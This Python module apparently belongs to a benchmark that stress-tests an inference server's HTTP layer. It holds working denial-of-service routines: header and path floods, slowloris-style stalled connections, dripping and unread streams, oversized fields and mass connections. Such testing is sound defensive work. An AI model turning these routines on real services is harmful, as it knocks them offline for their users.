"""Attacks on the HTTP layer: headers, bodies, connections, and streams that are never read."""

from __future__ import annotations

import socket
import time
import urllib.error
import urllib.request
from collections import Counter

import httpx

from saccade_bench.abuse import attack
from saccade_bench.attacks import raw

CHAT = "/v1/chat/completions"
HELLO = {"model": "demo", "messages": [{"role": "user", "content": "hi"}]}


def count(answers: list[object]) -> str:
    """Summarize outcomes, such as "3 x 200, 1 x reset"."""
    return ", ".join(f"{number} x {answer}" for answer, number in Counter(answers).most_common(6))


def status(url: str, request: bytes) -> object:
    try:
        return raw.ask(url, request).status
    except TimeoutError:
        return "no answer"
    except OSError:
        return "reset"


@attack("pipelined requests, 64 x 40,000", key=False)
def pipelined(url: str) -> str:
    with raw.connections(url, 64) as sockets:
        taken = raw.flood(sockets, raw.head("GET", "/v1/models"), 40_000, 60)
        time.sleep(10)
        return f"{taken / 1e6:.0f} MB taken"


@attack("one header of 128 MB", key=False)
def long_header(url: str) -> str:
    with raw.connections(url, 1) as sockets:
        sockets[0].sendall(b"GET /health HTTP/1.1\r\nhost: x\r\nx: ")
        taken = raw.flood(sockets, b"a" * 65536, 2000, 60)
        return f"{taken / 1e6:.0f} MB taken"


@attack("63 MB of small headers", key=False)
def small_headers(url: str) -> str:
    with raw.connections(url, 4) as sockets:
        for each in sockets:
            each.sendall(b"GET /health HTTP/1.1\r\nhost: x\r\n")
        taken = raw.flood(sockets, b"a: b\r\n", 2_600_000, 60)
        return f"{taken / 1e6:.0f} MB taken"


@attack("a path of 64 MB", key=False)
def long_path(url: str) -> str:
    with raw.connections(url, 1) as sockets:
        sockets[0].sendall(b"GET /")
        return f"{raw.flood(sockets, b'a' * 65536, 1000, 60) / 1e6:.0f} MB taken"


@attack("1,000 silent and half heads, 25 s", key=False)
def silent(url: str) -> str:
    with raw.connections(url, 1000) as sockets:
        for each in sockets[:500]:
            each.sendall(b"GET /v1/models HTTP/1.1\r\nho")
        time.sleep(25)
        closed = sum(raw.is_closed(each, 0.001) for each in sockets)
        return f"{closed} of 1,000 closed"


@attack("31 large bodies announced, one byte sent", "--max-inflight-mb", "6038")
def announced(url: str) -> str:
    with raw.connections(url, 31) as sockets:
        for each in sockets:
            each.sendall(
                raw.head("POST", CHAT, content_type="application/json", content_length=250 << 20)
                + b"{"
            )
        time.sleep(0.5)
        answers = [status(url, raw.post(CHAT, HELLO)) for _ in range(10)]
        return f"neighbours: {count(answers)}"


@attack("32 bodies that drip, 40 s", "--max-queued-requests", "32")
def drip(url: str) -> str:
    answers: list[object] = []
    with raw.connections(url, 32) as sockets:
        for each in sockets:
            each.sendall(
                raw.head("POST", CHAT, content_type="application/json", content_length=1000)
            )
        for _ in range(8):
            for each in sockets:
                try:
                    each.sendall(b" ")
                except OSError:
                    continue
            answers.append(status(url, raw.post(CHAT, HELLO)))
            time.sleep(5)
    return f"neighbours: {count(answers)}"


@attack("24 streams that nobody reads, up to 240 s", "--max-queued-requests", "24")
def unread_streams(url: str) -> str:
    body = {**HELLO, "stream": True, "max_tokens": 1900, "ignore_eos": True}
    body |= {"logprobs": True, "top_logprobs": 20}
    answers: list[object] = []
    with raw.connections(url, 24, receive_buffer=4096) as sockets:
        for each in sockets:
            each.sendall(raw.post(CHAT, body))
        for _ in range(48):
            time.sleep(5)
            answers.append(status(url, raw.post(CHAT, {**HELLO, "max_tokens": 1})))
            if answers[-1] == 200:
                break
    return f"neighbours: {count(answers)}; the last {answers[-1]}"


@attack("32 downloads that nobody reads, 10 s")
def unread_downloads(url: str) -> str:
    data = b"x" * (60 << 20)
    response = httpx.post(
        f"{url}/v1/files",
        data={"purpose": "batch"},
        files={"file": ("x", data)},
        timeout=60,
    )
    if response.status_code != 200:
        return f"upload: {response.status_code}"
    path = f"/v1/files/{response.json()['id']}/content"
    with raw.connections(url, 32, receive_buffer=4096) as sockets:
        for each in sockets:
            each.sendall(raw.head("GET", path))
        time.sleep(10)
    return "32 asked for"


@attack("100 early refusals of 5 MB bodies", key=False)
def refused(url: str) -> str:
    answers: list[object] = []
    for _ in range(100):
        try:
            urllib.request.urlopen(f"{url}{CHAT}", data=b" " * 5_000_000, timeout=30)
        except urllib.error.HTTPError as error:
            answers.append(error.code)
        except OSError:
            answers.append("reset")
    return count(answers)


@attack("names of 47 MB, echoed")
def echoed(url: str) -> str:
    sizes = []
    for body in ({**HELLO, "model": "m" * 47_000_000}, {**HELLO, "x" * 47_000_000: 1}):
        try:
            sizes.append(len(raw.ask(url, raw.post(CHAT, body), timeout=60).body))
        except OSError as error:
            return str(error)
    return f"answers of {sizes} bytes"


@attack("255 MB in `user`")
def long_user(url: str) -> str:
    body = {**HELLO, "max_tokens": 1, "user": "u" * (255 << 20)}
    return str(raw.ask(url, raw.post(CHAT, body), timeout=120).status)


@attack("log-probabilities, 20 x 128 answers x 200")
def log_probabilities(url: str) -> str:
    body = {**HELLO, "n": 128, "max_tokens": 200, "ignore_eos": True}
    body |= {"logprobs": True, "top_logprobs": 20}
    answer = raw.ask(url, raw.post(CHAT, body), timeout=240)
    return f"{answer.status}, {len(answer.body) / 1e6:.1f} MB"


@attack("64 bodies of one-byte chunks, 20 s")
def small_chunks(url: str) -> str:
    with raw.connections(url, 64) as sockets:
        for each in sockets:
            each.sendall(
                raw.head(
                    "POST", CHAT, "transfer-encoding: chunked", content_type="application/json"
                )
            )
        taken = raw.flood(sockets, b"1\r\n \r\n", 4_000_000, 20)
        return f"{taken / 1e6:.0f} MB taken"


@attack("a crowd of 3,000 connections that come and go", key=False)
def crowd(url: str) -> str:
    answers: list[object] = []
    held: list[socket.socket] = []
    try:
        for index in range(3000):
            try:
                held.append(raw.connect(url, timeout=5))
            except OSError as error:
                answers.append(type(error).__name__)
            if index % 100 == 99:
                answers.append(status(url, raw.head("GET", "/health")))
    finally:
        for each in held:
            each.close()
    return count(answers)
